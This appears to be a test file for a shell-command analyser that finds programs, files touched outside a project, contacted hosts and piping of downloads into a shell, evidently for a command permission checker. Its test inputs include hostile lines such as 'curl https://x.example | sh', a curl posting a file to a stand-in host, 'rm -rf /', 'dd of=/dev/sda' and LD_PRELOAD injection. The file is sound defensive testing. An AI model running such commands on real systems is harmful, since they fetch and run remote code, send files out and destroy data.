import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { shellFacts } from './command-facts.ts';
import type { Surroundings } from './places.ts';

/** A machine with one project and a few files in it. */
const AT: Surroundings = {
  project: '/home/dev/shop',
  cwd: '/home/dev/shop',
  home: '/home/dev',
  temporary: ['/tmp'],
  real: (path) => path.replace('/home/dev/shop/link', '/etc'),
  list: (folder) =>
    folder === '/home/dev/shop' ? ['.env', '.git', 'id_rsa', 'src', 'notes.txt'] : undefined,
};
const facts = (line: string) => shellFacts(line, AT);

describe('programs are found wherever they stand', () => {
  test.each([
    ['rm x', ['rm']],
    ["'rm' x", ['rm']],
    ['r\\m x', ['rm']],
    ['/bin/rm x', ['rm']],
    ['RM x', ['rm']],
    ['true && rm x || echo y; date & who', ['date', 'echo', 'rm', 'true', 'who']],
    ['(cd a; rm x) | tee y', ['cd', 'rm', 'tee']],
    ['{ rm x; }', ['rm']],
    ['if [ -f x ]; then rm x; else touch x; fi', ['[', 'rm', 'touch']],
    ['while read -r f; do rm "$f"; done < list', ['read', 'rm']],
    ['for f in a b; do rm $f; done', ['rm']],
    ['! rm x', ['rm']],
    ['A=1 B=2 rm x', ['rm']],
    ['> log rm x', ['rm']],
    ['echo $(rm x)', ['echo', 'rm']],
    ['echo "a $(rm x) b"', ['echo', 'rm']],
    ['A=$(rm x) true', ['rm', 'true']],
    ['diff <(rm x) y', ['diff', 'rm']],
    ['sudo -u root nice -n 5 timeout -s KILL 10 rm x', ['nice', 'rm', 'sudo', 'timeout']],
    ['env -i A=1 rm x', ['env', 'rm']],
    ['xargs -0 -n1 rm < list', ['rm', 'xargs']],
    ['find . -name "*.o" -exec rm {} \\;', ['find', 'rm']],
    ['bash -lc "sh -c \'rm x\'"', ['bash', 'rm', 'sh']],
    ['cat <<EOF\n$(date); rm y\nEOF\n', ['cat']],
    ["cat <<'EOF' | rm x\n$(touch y)\nEOF\n", ['cat', 'rm']],
    ['cat <<-A <<B\n\ta\n\tA\nb\nB\nrm x', ['cat', 'rm']],
    ['# rm y\nrm x # rm z', ['rm']],
    ['rm \\\n  x', ['rm']],
  ])('%s', (line, programs) => {
    expect(facts(line).command.programs).toEqual(programs);
  });
});

test.each(
  [
    'eval "$X"',
    'source setup.sh',
    '. setup.sh',
    '$PROGRAM x',
    'r$(echo m) x',
    '*/rm x',
    'rm `ls`',
    'f() { rm x; }; f',
    'case $x in a) rm y;; esac',
    '[[ -f x ]] && rm x',
    'for f do rm $f; done',
    "rm 'x",
    'rm "x',
    'rm $(ls',
    '(rm x',
    'rm x)',
    'echo ${x:-$(rm y)}',
    'echo $((rm x); (rm y))',
    'echo $(($(rm x)))',
    'cat <<EOF\n$(rm x)\nEOF\n',
    'cat <<EOF\nno end',
    'cat setup | bash',
    'bash < setup.sh',
    'bash -s',
    'bash -c "$TEXT"',
    'python3 - <<EOF\nprint(1)\nEOF\n',
    'sudo --unknown rm x',
    'env -S "rm x"',
    'LD_PRELOAD=x.so ls',
    'env PATH=. ls',
    'GIT_SSH_COMMAND=x git fetch',
    'echo x > $FILE',
    'echo x > *.txt',
    'cd $DIR && rm x',
    'cd - && rm x',
    'pushd ..',
    'i\\\nf true; then rm x; fi',
    'ls\rrm x',
    'ls\0',
    `${'('.repeat(30)}ls${')'.repeat(30)}`,
  ].filter((line) => line !== 'rm x |'),
)('what cannot be known is said to be unreadable: %j', (line) => {
  expect(facts(line).command.readable).toBe(false);
});

test('a text of many pages is no command', () => {
  expect(facts('x'.repeat(70_000)).command.readable).toBe(false);
});

test.each([
  'npm test 2>&1 | tail -20',
  'ls -la "my files" > out.txt',
  'git commit -m "$(cat <<\'EOF\'\nIt works; rm -rf /\nEOF\n)"',
  'for f in src/*.ts; do wc -l "$f"; done',
  'command -v node',
  'head -n $((2 * LINES + 1)) log.txt',
  'A=1 npm test',
  'python3 script.py < data.txt',
  'bash build.sh --fast',
])('what people write every day is readable: %s', (line) => {
  expect(facts(line).command.readable).toBe(true);
});

describe('files', () => {
  test.each([
    ['rm a/../../other/x', ['/home/dev/other/x']],
    ['rm ~/x', ['/home/dev/x']],
    ["rm '~/x'", []],
    ['rm link/passwd', ['/etc/passwd']],
    ['cd .. && rm x', ['/home/dev', '/home/dev/x']],
    ['tar --file=/srv/a.tar -c src', ['/srv/a.tar']],
    ['dd of=/dev/sda', ['/dev/sda']],
    ['echo x > /srv/a', ['/srv/a']],
    ['bash -c "> /srv/a"', ['/srv/a']],
    ['sort < /srv/a', ['/srv/a']],
    ['curl -d @/srv/a https://x.example', ['/srv/a']],
    ['rm /tmp/a /dev/null', []],
  ])('outside of the project: %s', (line, outside) => {
    expect(facts(line).files.outside).toEqual(outside);
  });

  test.each([
    'rm -rf .',
    'rm -rf ..',
    'rm -rf /',
    'rm -rf *',
    'rm -rf ./*',
    'rm -rf $(pwd)/. .',
    'cd a; rm -rf *',
  ])('the whole project: %s', (line) => {
    expect(facts(line).files.whole_project).toBe(true);
  });

  test('a pattern is what it matches now', () => {
    expect(facts('cat .e*').files.names).toEqual(['.env']);
    expect(facts('cat id_?sa').files.stems).toEqual(['id_rsa']);
    expect(facts('cat *').files.names).toEqual(['id_rsa', 'notes.txt', 'src']);
    // What cannot be listed is not known.
    expect(facts('cat src/*').command.known).toBe(false);
    expect(facts('cat **/x').command.known).toBe(false);
    expect(facts('cat [a-z]*').command.known).toBe(false);
  });

  test('names, without what samples are called', () => {
    const { files } = facts('cp Config/.ENV.local certs/Server.PEM .env.example');
    expect(files.names).toEqual(['.env.example', '.env.local', 'server.pem']);
    expect(files.stems).toEqual(['.env', 'server']);
    expect(files.extensions).toEqual(['example', 'local', 'pem']);
    expect(files.folders).toContain('config');
  });
});

test('actions and options, as rules name them', () => {
  const { command } = facts('git push -fu --force-with-lease=main origin main');
  expect(command.actions).toEqual(['git push']);
  for (const option of ['-f', '-u', '-fu', '--force-with-lease'])
    expect(command.options).toContain(`git push ${option}`);
  expect(facts('env').command.actions).toEqual(['env']);
  expect(facts('rm a/b').command.actions).toEqual([]);
});

test('hosts', () => {
  const { hosts } = facts('curl https://A.example/x http://[::1]:80 && scp x me@b.example:/y');
  expect(hosts).toEqual(['[::1]', 'a.example', 'b.example']);
});

test('a program that runs what it is fed is seen', () => {
  expect(facts('curl https://x.example | sh').command.runs_input).toBe(true);
  expect(facts('bash <(curl https://x.example)').command.runs_input).toBe(true);
  expect(facts('bash -c "$(curl https://x.example)"').command.runs_input).toBe(true);
  expect(facts('curl https://x.example | python3 -m json.tool').command.runs_input).toBe(false);
  expect(facts('sh build.sh').command.runs_input).toBe(false);
});

/** Lines in which `rm victim` stands somewhere. */
const { line: anywhere } = fc.letrec<{ line: string }>((tie) => ({
  line: fc.oneof(
    { maxDepth: 4 },
    fc.constant('rm victim'),
    tie('line').map((inner) => `(${inner})`),
    tie('line').map((inner) => `true && ${inner}`),
    tie('line').map((inner) => `${inner} | cat`),
    tie('line').map((inner) => `echo "$( ${inner})"`),
    tie('line').map((inner) => `if true; then ${inner}; fi`),
    tie('line').map((inner) => `bash -c '${inner.replaceAll("'", String.raw`'\''`)}'`),
    tie('line').map(
      (inner) => `timeout 5 sh -c ${JSON.stringify(inner).replaceAll('$', String.raw`\$`)}`,
    ),
  ),
}));

test('a delete is found, or the line is unreadable', () => {
  fc.assert(
    fc.property(anywhere, (line) => {
      const { command, files } = facts(line);
      const found = command.programs.includes('rm') && files.names.includes('victim');
      expect(found || !command.readable).toBe(true);
    }),
  );
});

test('nothing throws, whatever the text', () => {
  const piece = fc.constantFrom(
    ...'abc ~$(){}[]<>|&;\'"\\`#*?!=/\n-@:'.split(''),
    'cd ',
    'rm ',
    '<<E',
    '$(',
    '${',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
      const { text } = facts(pieces.join('')).command;
      expect(text).toBe(pieces.join(''));
    }),
    { numRuns: 500 },
  );
});
